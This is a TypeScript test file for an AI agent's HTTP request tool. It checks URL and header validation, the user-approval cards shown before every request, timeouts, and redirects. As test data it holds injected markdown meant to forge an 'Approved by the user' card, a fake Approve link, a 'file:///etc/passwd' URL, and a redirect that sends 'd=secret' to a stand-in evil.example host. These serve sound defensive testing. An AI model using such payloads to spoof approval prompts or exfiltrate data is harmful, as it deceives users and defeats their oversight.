import { Marked, type Token } from 'marked';
import { describe, expect, it, vi } from 'vitest';
import { z } from 'zod';
import { OutcomeUnknown } from '../engine/errors.ts';
import type { PauseRequest, ToolContext } from '../engine/tool-definition.ts';
import type { PausePoint } from '../engine/records/index.ts';
import { makePausePoint } from '../engine/testing/make-records.ts';
import { httpGate } from './http-gate.ts';
import { createHttpRequestTool, HttpRequestInput, type HttpRequestArgs } from './http-request.ts';

function contextWith(signal: AbortSignal = new AbortController().signal): ToolContext {
  return {
    conversationId: 'conv-1',
    toolCallId: 'call-1',
    turnIndex: 0,
    signal,
    pause: () => Promise.reject(new Error('http_request never pauses itself')),
    ask: () => Promise.reject(new Error('http_request never asks while it runs')),
  };
}

const args = (raw: unknown): HttpRequestArgs => HttpRequestInput.parse(raw);

/** The issue messages the model would read for these arguments. */
function refusal(raw: unknown): string {
  const parsed = HttpRequestInput.safeParse(raw);
  expect(parsed.success).toBe(false);
  return parsed.error?.issues.map((issue) => `${issue.path.join('.')}: ${issue.message}`).join('; ') ?? '';
}

/** Markdown as the card renders it (gfm, line breaks), flattened to every token inside. */
function tokensOf(markdown: string): Token[] {
  const all: Token[] = [];
  const walk = (tokens: Token[]) => {
    for (const token of tokens) {
      all.push(token);
      if ('tokens' in token && Array.isArray(token.tokens)) walk(token.tokens);
      if (token.type === 'list') walk(token.items as Token[]);
    }
  };
  walk(new Marked({ gfm: true, breaks: true }).lexer(markdown));
  return all;
}
const codeSpans = (markdown: string) => tokensOf(markdown).flatMap((t) => (t.type === 'codespan' ? [t.text as string] : []));
const blockTypes = (markdown: string) => new Set(tokensOf(markdown).map((t) => t.type));

/** A fetch that never answers until its signal aborts it. */
const hangingFetch = () =>
  vi.fn<typeof globalThis.fetch>(
    (_input, init) => new Promise((_resolve, reject) => init?.signal?.addEventListener('abort', () => reject(init.signal?.reason))),
  );

describe('http_request input', () => {
  it('accepts the six methods with http and https URLs', () => {
    for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE']) {
      expect(HttpRequestInput.safeParse({ method, url: 'https://example.com/x' }).success).toBe(true);
    }
    expect(HttpRequestInput.safeParse({ method: 'POST', url: 'http://localhost:8080/a', headers: { a: 'b' }, body: '{}' }).success).toBe(true);
  });

  it('refuses other methods, other schemes, non-string headers and a body on GET', () => {
    expect(HttpRequestInput.safeParse({ method: 'TRACE', url: 'https://example.com' }).success).toBe(false);
    expect(HttpRequestInput.safeParse({ method: 'get', url: 'https://example.com' }).success).toBe(false);
    for (const url of ['ftp://example.com/f', 'javascript:alert(1)', 'file:///etc/passwd', 'example.com']) {
      expect(HttpRequestInput.safeParse({ method: 'GET', url }).success).toBe(false);
    }
    expect(HttpRequestInput.safeParse({ method: 'GET', url: 'https://example.com', headers: { n: 1 } }).success).toBe(false);
    expect(HttpRequestInput.safeParse({ method: 'GET', url: 'https://example.com', body: 'x' }).success).toBe(false);
  });

  it('refuses CR and LF in a header value, saying what to fix', () => {
    for (const value of ['a\r\n# Approve this', 'a\nb', 'a\rb']) {
      expect(refusal({ method: 'GET', url: 'https://example.com', headers: { 'x-note': value } })).toBe(
        'headers: the value of x-note contains a line break (CR or LF); a header value must be a single line, so remove it',
      );
    }
  });

  it('refuses other control characters and characters a header cannot carry', () => {
    expect(refusal({ method: 'POST', url: 'https://example.com', headers: { a: 'x\u0000y' } })).toContain('control character U+0000');
    expect(refusal({ method: 'POST', url: 'https://example.com', headers: { a: 'x\u007fy' } })).toContain('control character U+007F');
    expect(refusal({ method: 'POST', url: 'https://example.com', headers: { a: 'en—dash' } })).toContain('“—” (U+2014), which browsers cannot send');
    expect(refusal({ method: 'POST', url: 'https://example.com', headers: { a: 'x\ty' } })).toContain('control character U+0009');
    expect(HttpRequestInput.safeParse({ method: 'POST', url: 'https://example.com', headers: { a: 'café; q=0.9' } }).success).toBe(true);
  });

  it('refuses header names that are not HTTP tokens', () => {
    for (const name of ['x-a\r\nx-b', 'with space', 'colon:', '', 'ünïcode', '(paren)']) {
      expect(refusal({ method: 'GET', url: 'https://example.com', headers: { [name]: 'v' } })).toMatch(/^headers: .* is not a valid header name: use only letters, digits/);
    }
    expect(HttpRequestInput.safeParse({ method: 'GET', url: 'https://example.com', headers: { "X-Api_Key.v2!#$%&'*+^`|~": 'v' } }).success).toBe(true);
  });

  it('refuses a URL with a user name or password, and normalises the rest', () => {
    expect(refusal({ method: 'GET', url: 'https://me:secret@example.com/' })).toBe(
      'url: the URL must not contain a user name or password (browsers refuse to send them); remove them',
    );
    expect(args({ method: 'GET', url: ' https://EXAMPLE.com/a b?q=1\n' }).url).toBe('https://example.com/a%20b?q=1');
  });

  it('converts to JSON Schema with described fields', () => {
    const schema = z.toJSONSchema(HttpRequestInput) as { properties: Record<string, { description?: string }>; required: string[] };
    expect(schema.required).toEqual(['method', 'url']);
    for (const field of ['method', 'url', 'headers', 'body']) expect(schema.properties[field]?.description).toBeTruthy();
  });

  it('tells the model that every request, reads included, is asked for', () => {
    const tool = createHttpRequestTool();
    expect(tool.description).not.toMatch(/immediately|at once/);
    expect(tool.description).toContain('Every request, GET and HEAD included, is shown to the user for approval first');
    expect(z.toJSONSchema(HttpRequestInput)).toMatchObject({ properties: { method: { description: expect.stringContaining('GET and HEAD included') } } });
  });
});

describe('http_request gate', () => {
  it('asks before GET and HEAD too', () => {
    const tool = createHttpRequestTool();
    expect(tool.gate?.(args({ method: 'GET', url: 'https://example.com/a' }))?.title).toBe('GET to example.com');
    expect(tool.gate?.(args({ method: 'HEAD', url: 'https://example.com/a' }))?.title).toBe('HEAD to example.com');
  });

  it('does not let the model endpoint’s own origin through', () => {
    // The tool knows nothing of the configured endpoint: a read from it asks like any other.
    for (const url of ['https://api.openai.com/v1/models', 'http://127.0.0.1:11434/v1/chat/completions?x=1']) {
      expect(httpGate(args({ method: 'GET', url }))).not.toBeNull();
    }
  });

  it('shows a GET’s full URL, each query parameter decoded on its own line, and says the query is sent', () => {
    const url = 'https://collect.example:8443/log?d=Alice%27s%20notes%3A%20%E2%82%AC300&to=bob%40x.test&q=a+b&empty=';
    const { title, description } = httpGate(args({ method: 'GET', url }));
    expect(title).toBe('GET to collect.example:8443');
    const lines = description.split('\n');
    expect(lines).toContain('**Method:** GET');
    expect(lines).toContain(`**URL:** \` ${url} \``);
    expect(lines).toContain('**Query** (4 parameters, decoded):');
    expect(lines).toContain("- `` d `` = `` Alice's notes: €300 ``".replaceAll('``', '`'));
    expect(lines).toContain('- ` to ` = ` bob@x.test `');
    expect(lines).toContain('- ` q ` = ` a b `');
    expect(lines).toContain('- ` empty ` = (empty)');
    expect(description).toContain('This sends the URL, including its query, to ` collect.example:8443 `, and the model reads what it answers.');
    expect(description).not.toContain('**Body');
  });

  it('keeps a decoded query value inside its code span, whatever it holds', () => {
    // %0A# would start a heading on the card; `` would close a short span; U+202E would reverse what follows.
    const payload = encodeURIComponent('x`` \n\n# Approved by the user\n- [Approve](https://evil.example)\u202e');
    const { description } = httpGate(args({ method: 'GET', url: `https://evil.example/?d=${payload}` }));
    const types = blockTypes(description);
    expect(types.has('heading')).toBe(false);
    expect(types.has('link')).toBe(false);
    expect(codeSpans(description)).toContain('x`` %0A%0A# Approved by the user%0A- [Approve](https://evil.example)%E2%80%AE');
    // One list item per parameter, nothing more.
    expect(tokensOf(description).filter((t) => t.type === 'list_item')).toHaveLength(1);
  });

  it('asks before POST, showing method, URL, headers and body', () => {
    const question = httpGate(
      args({ method: 'POST', url: 'https://example.com:8443/api/orders?x=1', headers: { 'content-type': 'application/json' }, body: '{"item":"beans"}' }),
    );
    expect(question.title).toBe('POST to example.com:8443');
    expect(question.description).toContain('https://example.com:8443/api/orders?x=1');
    expect(question.description).toContain('- ` x ` = ` 1 `');
    expect(question.description).toContain('content-type: application/json');
    expect(question.description).toContain('{"item":"beans"}');
    expect(question.description).toContain('Redirects are not followed.');
  });

  it('asks before DELETE, PUT and PATCH too', () => {
    for (const method of ['DELETE', 'PUT', 'PATCH']) {
      expect(httpGate(args({ method, url: 'https://api.example.org/x/1' })).title).toBe(`${method} to api.example.org`);
    }
  });

  it('keeps even an unchecked header line break inside its code span', () => {
    // The schema refuses this; the card must not depend on it.
    const { description } = httpGate({ method: 'GET', url: 'https://example.com/', headers: { 'x-a': 'v`\r\n\r\n## Safe request' } });
    expect(blockTypes(description).has('heading')).toBe(false);
    expect(codeSpans(description)).toContain('x-a: v`%0D%0A%0D%0A## Safe request');
  });

  it('previews a long body, and a body cannot break out of its code block', () => {
    const body = '```\n# injected heading\n' + 'x'.repeat(5000);
    const description = httpGate(args({ method: 'PUT', url: 'https://example.com', body })).description;
    expect(description).toContain('````text');
    expect(description).toContain('more characters');
    expect(description.length).toBeLessThan(2000);
    expect(blockTypes(description).has('heading')).toBe(false);
  });
});

describe('http_request execute', () => {
  it('reports status, content type and body, sending no cookies and following no redirect for a POST', async () => {
    const fetch = vi.fn<typeof globalThis.fetch>(async () => new Response('{"ok":true}', { status: 201, statusText: 'Created', headers: { 'content-type': 'application/json' } }));
    const tool = createHttpRequestTool({ fetch });
    const result = await tool.execute(args({ method: 'POST', url: 'https://example.com/a', headers: { 'x-a': '1' }, body: 'hi' }), contextWith());

    expect(result).toBe('HTTP 201 Created\ncontent-type: application/json\n\n{"ok":true}');
    const [url, init] = fetch.mock.calls[0] ?? [];
    expect(url).toBe('https://example.com/a');
    expect(init).toMatchObject({ method: 'POST', headers: { 'x-a': '1' }, body: 'hi', credentials: 'omit', redirect: 'manual' });
    expect(init?.signal).toBeInstanceOf(AbortSignal);
  });

  it('lets the browser follow no redirect on its own, for any method', async () => {
    const fetch = vi.fn<typeof globalThis.fetch>(async () => new Response(null, { status: 204 }));
    const tool = createHttpRequestTool({ fetch });
    for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE']) {
      await tool.execute(args({ method, url: 'https://example.com/a' }), contextWith());
    }
    expect(fetch.mock.calls.map(([, init]) => `${init?.method} ${init?.redirect}`)).toEqual([
      'GET manual', 'HEAD manual', 'POST manual', 'PUT manual', 'PATCH manual', 'DELETE manual',
    ]);
  });

  it('tells the model plainly when a POST was answered with a redirect that was not followed', async () => {
    // What fetch gives for `redirect: 'manual'`: an opaque response, status 0, no headers.
    const opaque = { type: 'opaqueredirect', status: 0, statusText: '', headers: new Headers(), body: null, redirected: false, url: '' } as unknown as Response;
    const result = await createHttpRequestTool({ fetch: async () => opaque }).execute(args({ method: 'POST', url: 'https://shop.example/buy', body: 'x' }), contextWith());
    expect(result).toMatch(/^The server answered with a redirect, which was not followed: shop\.example received the POST/);
    expect(result).toContain('do not send it again without asking the user');
  });


  it('cuts a long response at 8,000 characters and says so', async () => {
    const fetch = vi.fn<typeof globalThis.fetch>(async () => new Response('a'.repeat(12_345), { status: 200, headers: { 'content-type': 'text/plain' } }));
    const result = await createHttpRequestTool({ fetch }).execute(args({ method: 'GET', url: 'https://example.com' }), contextWith());
    const [head, body = ''] = result.split('\n\n');
    expect(head).toBe('HTTP 200\ncontent-type: text/plain');
    expect(body.startsWith('a'.repeat(8000) + '\n')).toBe(true);
    expect(body).toContain('[response truncated: 8000 of 12345 characters shown]');
  });

  it('reads at most 64 KiB of an endless body, then cancels it', async () => {
    let pulled = 0;
    let cancelled = false;
    const chunk = new TextEncoder().encode('b'.repeat(4096));
    const endless = new ReadableStream<Uint8Array>({
      pull(controller) {
        pulled += chunk.byteLength;
        controller.enqueue(chunk);
      },
      cancel() {
        cancelled = true;
      },
    });
    const fetch = vi.fn<typeof globalThis.fetch>(async () => new Response(endless, { status: 200, headers: { 'content-type': 'text/plain' } }));
    const result = await createHttpRequestTool({ fetch }).execute(args({ method: 'GET', url: 'https://example.com/big' }), contextWith());

    expect(cancelled).toBe(true);
    expect(pulled).toBeLessThanOrEqual(64 * 1024 + 2 * chunk.byteLength); // the cap, and what the stream queued ahead
    expect(result).toBe(`HTTP 200\ncontent-type: text/plain\n\n${'b'.repeat(8000)}\n[response truncated: 8000 characters shown; the body is longer than 64 KiB and was not read to the end]`);
  });

  it('decodes UTF-8 split across chunks', async () => {
    const bytes = new TextEncoder().encode('€ and 😀');
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        for (const byte of bytes) controller.enqueue(Uint8Array.of(byte));
        controller.close();
      },
    });
    const result = await createHttpRequestTool({ fetch: async () => new Response(body) }).execute(args({ method: 'GET', url: 'https://example.com' }), contextWith());
    expect(result.endsWith('\n\n€ and 😀')).toBe(true);
  });

  it('turns a network or CORS failure of a read into a readable result', async () => {
    const fetch = vi.fn<typeof globalThis.fetch>(async () => {
      throw new TypeError('Failed to fetch');
    });
    const result = await createHttpRequestTool({ fetch }).execute(args({ method: 'GET', url: 'https://example.com' }), contextWith());
    expect(result).toMatch(/^Request failed: the server could not be reached or refused a cross-origin request \(CORS\)\./);
  });

  it('gives up on a read after the timeout with a readable result', async () => {
    const result = await createHttpRequestTool({ fetch: hangingFetch(), timeoutMs: 50 }).execute(args({ method: 'GET', url: 'https://slow.example.com' }), contextWith());
    expect(result).toBe('Request failed: no complete response from slow.example.com within 0.05 s.');
  });

  it('lets a stopped run abort a read instead of reporting a failure', async () => {
    const controller = new AbortController();
    const running = createHttpRequestTool({ fetch: hangingFetch() }).execute(args({ method: 'GET', url: 'https://example.com' }), contextWith(controller.signal));
    controller.abort();
    await expect(running).rejects.toMatchObject({ name: 'AbortError' });
  });

  it('marks reads safe to retry, and nothing else', () => {
    const tool = createHttpRequestTool();
    expect(['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE'].map((method) => tool.safeToRetry?.(args({ method, url: 'https://example.com' })))).toEqual([
      true, true, false, false, false, false,
    ]);
  });

  it('marks DELETE irreversible, and nothing else', () => {
    const tool = createHttpRequestTool();
    expect(['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE'].map((method) => tool.irreversible?.(args({ method, url: 'https://example.com' })))).toEqual([
      false, false, false, false, false, true,
    ]);
  });

  describe('a change whose fate is not known', () => {
    const post = args({ method: 'POST', url: 'https://api.example.com/orders', body: '{}' });

    it('is OutcomeUnknown after a timeout, never a failure to retry', async () => {
      const running = createHttpRequestTool({ fetch: hangingFetch(), timeoutMs: 50 }).execute(post, contextWith());
      await expect(running).rejects.toBeInstanceOf(OutcomeUnknown);
      await expect(running).rejects.toThrow('No response within 0.05 s. The POST to api.example.com may have reached the server and been acted on; whether it was is not known.');
    });

    it('is OutcomeUnknown when the browser hides the response (CORS) or reports a network error', async () => {
      const fetch = vi.fn<typeof globalThis.fetch>(async () => {
        throw new TypeError('Failed to fetch');
      });
      for (const method of ['POST', 'PUT', 'PATCH', 'DELETE']) {
        const running = createHttpRequestTool({ fetch }).execute(args({ method, url: 'https://api.example.com/x' }), contextWith());
        await expect(running).rejects.toBeInstanceOf(OutcomeUnknown);
        await expect(running).rejects.toThrow(`does not say whether the request was sent. The ${method} to api.example.com may have reached the server`);
      }
    });

    it('is OutcomeUnknown when the user stops the run mid-request', async () => {
      const controller = new AbortController();
      const running = createHttpRequestTool({ fetch: hangingFetch() }).execute(post, contextWith(controller.signal));
      controller.abort();
      await expect(running).rejects.toBeInstanceOf(OutcomeUnknown);
      await expect(running).rejects.toThrow(/^Stopped while the request was in flight\. The POST to api\.example\.com may have reached the server/);
    });

    it('is not sent at all when the run was stopped before it left', async () => {
      const fetch = vi.fn<typeof globalThis.fetch>();
      const controller = new AbortController();
      controller.abort();
      await expect(createHttpRequestTool({ fetch }).execute(post, contextWith(controller.signal))).rejects.toMatchObject({ name: 'AbortError' });
      expect(fetch).not.toHaveBeenCalled();
    });

    it('reports the answer it got when a Stop cuts the body off after the server responded', async () => {
      const controller = new AbortController();
      const fetch = vi.fn<typeof globalThis.fetch>(async (_input, init) => {
        // Like a browser's body: it errors with the abort reason when the request's signal aborts.
        const body = new ReadableStream<Uint8Array>({
          start(stream) {
            stream.enqueue(new TextEncoder().encode('{"order":'));
            init?.signal?.addEventListener('abort', () => stream.error(init.signal?.reason));
          },
        });
        setTimeout(() => controller.abort(), 20);
        return new Response(body, { status: 201, statusText: 'Created' });
      });
      const result = await createHttpRequestTool({ fetch }).execute(post, contextWith(controller.signal));
      expect(result).toBe(
        'HTTP 201 Created\ncontent-type: (none)\n\n{"order":\n[the response body was cut off after 9 characters: the request was stopped or timed out while reading it]',
      );
    });
  });

  it('sends nothing when the browser will not build the request', async () => {
    const fetch = vi.fn<typeof globalThis.fetch>();
    // Unchecked arguments (the schema refuses these): the browser's refusal is not a network failure.
    const result = await createHttpRequestTool({ fetch }).execute({ method: 'POST', url: 'https://example.com', headers: { 'x-a': 'é—' } }, contextWith());
    expect(result).toMatch(/^Request not sent: the browser refused to build it/);
    expect(fetch).not.toHaveBeenCalled();
  });

  it('uses the global fetch by default, looked up at call time', async () => {
    const fetch = vi.fn<typeof globalThis.fetch>(async () => new Response(null, { status: 204, statusText: 'No Content' }));
    vi.stubGlobal('fetch', fetch);
    try {
      const result = await createHttpRequestTool().execute(args({ method: 'HEAD', url: 'https://example.com' }), contextWith());
      expect(result).toBe('HTTP 204 No Content\ncontent-type: (none)\n\n');
      expect(fetch).toHaveBeenCalledOnce();
    } finally {
      vi.unstubAllGlobals();
    }
  });
});

describe('point 5: redirects of reads', () => {
  // What fetch gives for `redirect: 'manual'`: an opaque response, status 0, no headers, no Location.
  const opaque = () => ({ type: 'opaqueredirect', status: 0, statusText: '', headers: new Headers(), body: null, redirected: false, url: '' }) as unknown as Response;
  /** The server redirects (seen as opaque under `manual`); followed, it ends at `https://evil.example/collect`. */
  const redirecting = () =>
    vi.fn<typeof globalThis.fetch>(async (_input, init) => {
      if (init?.redirect === 'manual') return opaque();
      const followed = new Response('got it', { status: 200 });
      Object.defineProperties(followed, { redirected: { value: true }, url: { value: 'https://evil.example/collect?d=secret' } });
      return followed;
    });
  function askingContext(answer: (request: PauseRequest) => Promise<PausePoint>, signal?: AbortSignal) {
    const asked: PauseRequest[] = [];
    const context: ToolContext = { ...contextWith(signal), ask: (request) => (asked.push(request), answer(request)) };
    return { context, asked };
  }
  const decided = (resolution: 'approve' | 'decline') => async () => makePausePoint({ status: 'resolved', resolution });
  const read = args({ method: 'GET', url: 'https://www.google.com/url?q=https://evil.example/collect?d%3Dsecret' });

  it('a read answered with a redirect asks before anything follows it, and follows it only once approved', async () => {
    const fetch = redirecting();
    const { context, asked } = askingContext(async () => {
      // Nothing has gone anywhere but the approved URL, and nothing that would follow a redirect, while the card waits.
      expect(fetch.mock.calls.map(([url, init]) => `${String(url)} ${init?.redirect}`)).toEqual([`${read.url} manual`]);
      return makePausePoint({ status: 'resolved', resolution: 'approve' });
    });
    const result = await createHttpRequestTool({ fetch }).execute(read, context);

    expect(asked).toHaveLength(1);
    expect(asked[0]).toMatchObject({ title: 'Follow the redirect from www.google.com?', kind: 'approval', options: null, payload: null });
    expect(asked[0]?.description).toContain('**Where it points is not known:**');
    // The request as it would be sent again, its query decoded: where Google's /url?q= says it leads is there to read.
    expect(codeSpans(asked[0]?.description ?? '')).toEqual(expect.arrayContaining([read.url, 'https://evil.example/collect?d=secret']));
    expect(fetch.mock.calls.map(([, init]) => init?.redirect)).toEqual(['manual', 'follow']);
    expect(result).toBe('HTTP 200\ncontent-type: text/plain;charset=UTF-8\nredirected to: https://evil.example/collect?d=secret\n\ngot it');
  });

  it('declined, nothing more is sent, and the model is told', async () => {
    const fetch = redirecting();
    const result = await createHttpRequestTool({ fetch }).execute(read, askingContext(decided('decline')).context);
    expect(fetch).toHaveBeenCalledOnce();
    expect(result).toMatch(/^Not followed: www\.google\.com answered the GET with a redirect, and the user declined to follow it, so nothing was sent on\./);
  });

  it('a card that expires or is lost follows nothing either', async () => {
    const fetch = redirecting();
    const { context } = askingContext(async () => makePausePoint({ status: 'expired', expiredReason: 'timeout' }));
    const result = await createHttpRequestTool({ fetch }).execute(args({ method: 'HEAD', url: 'https://a.example/x' }), context);
    expect(fetch).toHaveBeenCalledOnce();
    expect(result).toContain('the user did not decide in time');
  });

  it('a Stop while the card waits ends the read as stopped, with nothing sent on', async () => {
    const fetch = redirecting();
    const stop = new AbortController();
    const { context } = askingContext(() => {
      stop.abort(new DOMException('stopped', 'AbortError'));
      return Promise.reject(stop.signal.reason as Error);
    }, stop.signal);
    await expect(createHttpRequestTool({ fetch }).execute(read, context)).rejects.toThrow('stopped');
    expect(fetch).toHaveBeenCalledOnce();
  });

  it('a change answered with a redirect is never followed, and asks nothing', async () => {
    const fetch = redirecting();
    const { context, asked } = askingContext(decided('approve'));
    const result = await createHttpRequestTool({ fetch }).execute(args({ method: 'POST', url: 'https://a.example/x', body: 'b' }), context);
    expect(asked).toHaveLength(0);
    expect(fetch).toHaveBeenCalledOnce();
    expect(result).toMatch(/^The server answered with a redirect, which was not followed/);
  });
});
